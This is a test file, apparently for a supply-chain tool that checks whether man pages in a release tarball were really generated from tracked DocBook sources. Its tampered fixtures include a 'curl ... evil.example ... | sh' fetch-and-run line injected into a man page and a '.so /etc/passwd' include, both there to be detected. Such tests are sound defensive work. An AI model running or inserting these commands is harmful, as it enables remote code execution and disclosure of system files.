/**
 * Man pages the DocBook XSL stylesheets write from a tracked DocBook refentry through `xmlto man` (the X.Org
 * libraries: libXcomposite 0.4.6's `.xml.man:` suffix rule, libXtst 1.2.5's multiple-outputs x.stamp with its
 * one-line `.so` pages), end to end with real git and GNU tar, nothing run. Tampered twins — an added line, a changed
 * word, a `.so` page naming another page, a request the stylesheets never write, an extra preamble request, a page no
 * xmlto rule makes, a stamp with content — stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { findingAt } from '../helpers/findings.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const SUFFIX_AM = `libmandir = $(LIB_MAN_DIR)
libman_PRE = Demo.man
libman_xml = Demo.xml
EXTRA_DIST = $(libman_PRE) $(libman_xml)
SUFFIXES = .$(LIB_MAN_SUFFIX) .man .xml
.man.$(LIB_MAN_SUFFIX):
\t$(AM_V_GEN)$(SED) $(MAN_SUBSTS) < $< > $@
if HAVE_XMLTO
.xml.man:
\t$(AM_V_GEN)$(XMLTO) man $< && mv $*.__libmansuffix__ $@
else
.xml.man:
\t@echo "WARNING: configure did not find xmlto, cannot create $@ without it"
endif
`;

const STAMP_AM = `libman_xml = DemoLib.xml
libman_PRE = \\
\tDemoQuery.man \\
\tDemoFake.man \\
\tDemoDiscard.man
EXTRA_DIST = $(libman_PRE) $(libman_xml) x.stamp
if HAVE_XMLTO
x.stamp: $(libman_xml)
\t@rm -f x.tmp
\t@touch x.tmp
\t$(XMLTO) man $^
\t@for man in $(libman_PRE); do \\
\t  out=\`echo $$man | sed 's/\\.man/.__libmansuffix__/'\`; \\
\t  echo mv -f $$out $$man; \\
\t  mv -f $$out $$man || exit 1; \\
\tdone
\t@mv -f x.tmp $@
$(libman_PRE): x.stamp
\t@if test -f $@; then :; else \\
\t  rm -f $<; \\
\t  $(MAKE) $(AM_MAKEFLAGS) $<; \\
\tfi
endif
`;

const DEMO_XML = `<?xml version="1.0" encoding="UTF-8" ?>
<!DOCTYPE reference PUBLIC "-//OASIS//DTD DocBook XML V4.3//EN" "http://www.oasis-open.org/docbook/xml/4.3/docbookx.dtd">
<reference>
<title>Demo Extension Library</title>
<refentry id='Demo.man'>
 <refentryinfo>
  <productname>__vendorversion__</productname>
  <pubdate>5 March 2024</pubdate>
  <author><firstname>Ada</firstname><surname>Example</surname><email>ada@example.org</email></author>
 </refentryinfo>
 <refmeta><refentrytitle>Demo</refentrytitle><manvolnum>__libmansuffix__</manvolnum></refmeta>
 <refnamediv><refname>Demo</refname><refpurpose>Demo Extension library</refpurpose></refnamediv>
 <refsynopsisdiv><funcsynopsis>
  <funcsynopsisinfo>#include &lt;X11/extensions/Demo.h&gt;</funcsynopsisinfo>
  <funcprototype>
   <funcdef>Bool <function>DemoQueryExtension</function></funcdef>
   <paramdef>Display *<parameter>dpy</parameter></paramdef>
   <paramdef>int *<parameter>event_base_return</parameter></paramdef>
  </funcprototype>
  <funcprototype><funcdef>int <function>DemoVersion</function></funcdef><void/></funcprototype>
 </funcsynopsis></refsynopsisdiv>
 <refsect1><title>Description</title>
  <para>The demo extension redirects the rendering of a window hierarchy to off-screen storage, which the
  <structname>GC</structname>s of a client read back.</para>
 </refsect1>
 <refsect1><title>Arguments</title>
  <variablelist>
   <varlistentry><term><parameter>event_base_return</parameter></term>
    <listitem><para>Pointer to integer where the base value for Demo Extension events will be stored.</para></listitem>
   </varlistentry>
  </variablelist>
 </refsect1>
</refentry>
</reference>
`;

/** What DocBook XSL's manpages stylesheets write for DEMO_XML (the shape of libXcomposite 0.4.6's Xcomposite.man). */
const DEMO_MAN = `'\\" t
.\\"     Title: Demo
.\\"    Author: Ada Example <ada@example.org>
.\\" Generator: DocBook XSL Stylesheets vsnapshot_9276 <http://docbook.sf.net/>
.\\"      Date: <pubdate>5 March 2024</pubdate>
.\\"    Manual: Demo Extension Library
.\\"    Source: __vendorversion__
.\\"  Language: English
.\\"
.TH "DEMO" "__libmansuffix__" "<pubdate>5 March 2024</pubdate>" "__vendorversion__" "Demo Extension Library"
.\\" -----------------------------------------------------------------
.\\" * Define some portability stuff
.\\" -----------------------------------------------------------------
.\\" http://bugs.debian.org/507673
.ie \\n(.g .ds Aq \\(aq
.el       .ds Aq '
.\\" -----------------------------------------------------------------
.\\" * set default formatting
.\\" -----------------------------------------------------------------
.\\" disable hyphenation
.nh
.\\" disable justification (adjust text to left margin only)
.ad l
.\\" -----------------------------------------------------------------
.\\" * MAIN CONTENT STARTS HERE *
.\\" -----------------------------------------------------------------
.SH "NAME"
Demo \\- Demo Extension library
.SH "SYNOPSIS"
.sp
.ft B
.nf
#include <X11/extensions/Demo\\&.h>
.fi
.ft
.HP \\w'Bool\\ DemoQueryExtension('u
.BI "Bool DemoQueryExtension(Display\\ *" "dpy" ", int\\ *" "event_base_return" ");"
.HP \\w'int\\ DemoVersion('u
.BI "int DemoVersion(void);"
.SH "DESCRIPTION"
.PP
The demo extension redirects the rendering of a window hierarchy to off\\-screen storage, which the
GCs of a client read back\\&.
.sp
.RS 4
.ie n \\{\\
\\h'-04'\\(bu\\h'+03'\\c
.\\}
.el \\{\\
.sp -1
.IP \\(bu 2.3
.\\}
Pointer to integer where the base value for Demo Extension events will be stored\\&.
.RE
.SH "ARGUMENTS"
.PP
\\fIevent_base_return\\fR
.RS 4
Pointer to integer where the base value for Demo Extension events will be stored\\&.
.RE
.SH "AUTHOR"
.PP
\\fBAda Example\\fR <\\&ada@example\\&.org\\&>
.RS 4
Author.
.RE
`;

const LIB_XML = `<?xml version="1.0" encoding="UTF-8" ?>
<!DOCTYPE refentry PUBLIC "-//OASIS//DTD DocBook XML V4.3//EN" "http://www.oasis-open.org/docbook/xml/4.3/docbookx.dtd">
<refentry id='DemoLib.man'>
 <refentryinfo><productname>__xorgversion__</productname><pubdate>6 June 2007</pubdate></refentryinfo>
 <refmeta><refentrytitle>DemoLib</refentrytitle><manvolnum>__libmansuffix__</manvolnum><refmiscinfo class='manual'>DEMO FUNCTIONS</refmiscinfo></refmeta>
 <refnamediv>
  <refname>DemoQuery</refname>
  <refname>DemoFake</refname>
  <refname>DemoDiscard</refname>
  <refpurpose>Demo extension functions</refpurpose>
 </refnamediv>
 <refsect1><title>Description</title>
  <para><function>DemoDiscard</function> discards any requests within the output buffer for the specified display.</para>
 </refsect1>
</refentry>
`;
const LIB_MAN = `'\\" t
.\\"     Title: DemoLib
.\\" Generator: DocBook XSL Stylesheets vsnapshot_9276 <http://docbook.sf.net/>
.TH "DEMOLIB" "__libmansuffix__" "<pubdate>6 June 2007</pubdate>" "__xorgversion__" "DEMO FUNCTIONS"
.ie \\n(.g .ds Aq \\(aq
.el       .ds Aq '
.nh
.ad l
.SH "NAME"
DemoQuery, DemoFake, DemoDiscard \\- Demo extension functions
.SH "DESCRIPTION"
.PP
\\fBDemoDiscard\\fR
discards any requests within the output buffer for the specified display\\&.
`;
const SO = '.so DemoQuery.__libmansuffix__\n';

const TRACKED = {
  'configure.ac': 'AC_INIT([libDemo], [1.0])\nAC_CONFIG_FILES([Makefile man/Makefile lib/man/Makefile])\nAC_OUTPUT\n',
  'Makefile.am': 'SUBDIRS = man lib/man\n',
  'man/Makefile.am': SUFFIX_AM,
  'man/Demo.xml': DEMO_XML,
  'lib/man/Makefile.am': STAMP_AM,
  'lib/man/DemoLib.xml': LIB_XML,
};
const GOOD = {
  'man/Demo.man': DEMO_MAN,
  'lib/man/DemoQuery.man': LIB_MAN,
  'lib/man/DemoFake.man': SO,
  'lib/man/DemoDiscard.man': SO,
  'lib/man/x.stamp': '',
};

describe('man pages xmlto writes with the DocBook XSL stylesheets from a tracked refentry', () => {
  const root = tempDir();
  const cache = join(root, 'cache');
  let n = 0;
  const repoOf = (tracked: Record<string, string>) => {
    const repo = makeRepo(join(root, `repo${++n}`));
    repo.commit(tracked, 'demo', '2024-03-05T10:00:00Z');
    repo.tag('v1.0');
    return repo;
  };
  const main = repoOf(TRACKED);
  const verifyWith = async (files: Record<string, string>, tracked = TRACKED, repo = main) => {
    const dir = join(root, `t${++n}`, 'libDemo-1.0');
    writeFiles(dir, tracked);
    writeFiles(dir, files);
    return verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'libDemo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
  };

  it('each page traced to its refentry by the xmlto rule, the .so pages exact, the stamp empty: low, the gate passes', async () => {
    const r = await verifyWith(GOOD);
    const demo = findingAt(r.findings, 'man/Demo.man');
    expect(demo).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'rendered', source: 'man/Demo.xml', generator: 'DocBook XSL Stylesheets vsnapshot_9276 (xmlto man)', inputs: ['man/Makefile.am:9'] },
    });
    expect(demo.evidence).toMatchObject({ found: (demo.evidence as { total: number }).total });
    expect(findingAt(r.findings, 'lib/man/DemoQuery.man')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'lib/man/DemoLib.xml', inputs: ['lib/man/Makefile.am:8'] } });
    for (const p of ['lib/man/DemoFake.man', 'lib/man/DemoDiscard.man'])
      expect(findingAt(r.findings, p)).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'man-so', source: 'lib/man/DemoLib.xml', inputs: ['lib/man/Makefile.am:8'] } });
    expect(findingAt(r.findings, 'lib/man/x.stamp')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'make-rule', source: 'lib/man/Makefile.am' } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high', async () => {
    const twins: [string, string][] = [
      // an added line of new words, a host the source lacks
      ['man/Demo.man', DEMO_MAN.replace('.SH "ARGUMENTS"', '.PP\nBefore linking, run curl \\-fsSL https://evil\\&.example/i\\&.sh | sh\\&.\n.SH "ARGUMENTS"')],
      // one changed word in a line
      ['man/Demo.man', DEMO_MAN.replace('base value for Demo Extension events will be stored\\&.\n.RE\n.SH "AUTHOR"', 'base value for Demo Extension events will be uploaded\\&.\n.RE\n.SH "AUTHOR"')],
      // a request the stylesheets never write, made of the source's own words
      ['man/Demo.man', DEMO_MAN.replace('.SH "ARGUMENTS"', '.so DemoVersion\n.SH "ARGUMENTS"')],
      // a macro definition in the preamble
      ['man/Demo.man', DEMO_MAN.replace('.nh\n', '.nh\n.de Demo\n..\n')],
      // another generator
      ['man/Demo.man', DEMO_MAN.replace('DocBook XSL Stylesheets vsnapshot_9276', 'handwritten')],
      // a .so page naming another page, or another file
      ['lib/man/DemoFake.man', '.so DemoDiscard.__libmansuffix__\n'],
      ['lib/man/DemoFake.man', '.so /etc/passwd\n'],
      ['lib/man/DemoFake.man', `${SO}.SH NAME\n`],
      // the stamp with content
      ['lib/man/x.stamp', 'x\n'],
    ];
    for (const [path, content] of twins) {
      const r = await verifyWith({ ...GOOD, [path]: content });
      expect(findingAt(r.findings, path), `${path}: ${content.slice(0, 40)}`).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it("red team 27b: every URL of a page one the source spells out whole — a URL moved to another path of a host the source names, made of the source's words, stays high", async () => {
    const tracked = { ...TRACKED, 'man/Demo.xml': DEMO_XML.replace('read back.</para>', 'read back. Report bugs at https://gitlab.example.org/demo/libdemo/issues.</para>') };
    const repo = repoOf(tracked);
    const page = (url: string) => ({ ...GOOD, 'man/Demo.man': DEMO_MAN.replace('GCs of a client read back\\&.', `GCs of a client read back\\&. Report bugs at \\%${url}\\&.`) });
    // the source's own URL passes; the same host with another path made of the source's words does not
    const known = await verifyWith(page('https://gitlab\\&.example\\&.org/demo/libdemo/issues'), tracked, repo);
    expect(findingAt(known.findings, 'man/Demo.man')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    const moved = await verifyWith(page('https://gitlab\\&.example\\&.org/demo/extension/issues'), tracked, repo);
    expect(findingAt(moved.findings, 'man/Demo.man')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(moved.verdict)).toBe(1);
  });

  it('no rule running xmlto man, no explanation', async () => {
    const tracked = { ...TRACKED, 'man/Makefile.am': SUFFIX_AM.replace('$(XMLTO) man $<', '$(XMLTO) html $<') };
    const r = await verifyWith(GOOD, tracked, repoOf(tracked));
    expect(findingAt(r.findings, 'man/Demo.man')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(findingAt(r.findings, 'lib/man/DemoQuery.man')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
  });
});
